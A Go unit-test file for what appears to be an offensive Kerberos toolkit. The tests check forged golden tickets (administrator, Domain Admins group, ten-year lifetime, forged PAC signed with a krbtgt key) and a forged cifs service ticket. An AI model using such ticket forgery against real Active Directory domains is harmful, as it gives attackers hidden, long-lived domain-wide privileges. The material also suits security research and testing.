package orchestrator

import (
	"encoding/asn1"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/sprout-sec/kerbeus-go/cipher"
	"github.com/sprout-sec/kerbeus-go/credtypes"
	"github.com/sprout-sec/kerbeus-go/formatcodec"
	"github.com/sprout-sec/kerbeus-go/krbuser"
	"github.com/sprout-sec/kerbeus-go/messageforge"
	"github.com/sprout-sec/kerbeus-go/pacforge"
	"github.com/sprout-sec/kerbeus-go/vault"
)

func krbtgtCipher(t *testing.T) *cipher.Cipher {
	t.Helper()
	c, err := cipher.DeriveCipher(krbuser.Rc4Key{}, krbuser.NewKrbUser("krbtgt", "DOMAIN.COM"), 0, nil)
	require.NoError(t, err)
	return c
}

func TestCraftGoldenTicketEncTicketPartRoundTrips(t *testing.T) {
	domainSID, err := pacforge.ParseSID("S-1-5-21-111111-222222-333333")
	require.NoError(t, err)

	signingKey := krbtgtCipher(t)
	v := vault.NewMemoryVault("golden-test")
	o := New(nil, v)

	logonTime := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	req := CraftRequest{
		ClientName:   messageforge.NTPrincipal("administrator"),
		ClientRealm:  "DOMAIN.COM",
		ServiceName:  messageforge.NTSrvInst(credtypes.KrbtgtLabel + "/DOMAIN.COM"),
		ServiceRealm: "DOMAIN.COM",
		SigningKey:   signingKey,
		LogonInfo: pacforge.LogonInfo{
			EffectiveName: "administrator",
			LogonDomain:   "DOMAIN",
			UserID:        500,
			DomainSID:     domainSID,
			GroupIDs:      []pacforge.GroupMembership{{RelativeID: 512, Attributes: pacforge.DefaultGroupAttributes}},
		},
		LogonTime: logonTime,
		Lifetime:  10 * 365 * 24 * time.Hour,
	}

	cred, err := o.Craft(req, formatcodec.KRB)
	require.NoError(t, err)

	assert.Equal(t, "DOMAIN.COM", cred.Ticket.Realm)
	assert.Equal(t, req.ServiceName, cred.Ticket.SName)
	assert.Equal(t, req.ClientName, cred.CredInfo.PName)
	assert.Equal(t, "DOMAIN.COM", cred.CredInfo.PRealm)

	plain, err := signingKey.Decrypt(ticketEncPartKeyUsage, cred.Ticket.EncPart.Cipher)
	require.NoError(t, err)

	var part encTicketPartASN1
	_, err = asn1.Unmarshal(plain, &part)
	require.NoError(t, err)

	assert.Equal(t, "DOMAIN.COM", part.CRealm)
	assert.Equal(t, req.ClientName, part.CName)
	assert.True(t, part.EndTime.After(logonTime))
	require.Len(t, part.AuthorizationData, 1)
	assert.Equal(t, int32(adIfRelevantType), part.AuthorizationData[0].ADType)

	var inner []authDataEntryASN1
	_, err = asn1.Unmarshal(part.AuthorizationData[0].ADData, &inner)
	require.NoError(t, err)
	require.Len(t, inner, 1)
	assert.Equal(t, int32(adWin2kPacType), inner[0].ADType)
	assert.NotEmpty(t, inner[0].ADData)

	dumped, err := v.Dump()
	require.NoError(t, err)
	require.Len(t, dumped, 1)
}

func TestCraftWithoutVaultStillReturnsCredential(t *testing.T) {
	o := New(nil, nil)
	req := CraftRequest{
		ClientName:   messageforge.NTPrincipal("alice"),
		ClientRealm:  "DOMAIN.COM",
		ServiceName:  messageforge.NTSrvInst("cifs/host.domain.com"),
		ServiceRealm: "DOMAIN.COM",
		SigningKey:   krbtgtCipher(t),
		LogonInfo:    pacforge.LogonInfo{EffectiveName: "alice", UserID: 1105},
		LogonTime:    time.Now().UTC(),
		Lifetime:     time.Hour,
	}

	cred, err := o.Craft(req, formatcodec.KRB)
	require.NoError(t, err)
	assert.Equal(t, req.ServiceName, cred.Ticket.SName)
}

func TestTicketFlagsSetsExpectedBits(t *testing.T) {
	bs := ticketFlags(true, true, true, true)
	require.Equal(t, 32, bs.BitLength)
	assert.True(t, bs.At(1) == 1)
	assert.True(t, bs.At(8) == 1)
	assert.True(t, bs.At(9) == 1)
	assert.True(t, bs.At(10) == 1)
	assert.True(t, bs.At(0) == 0)
}
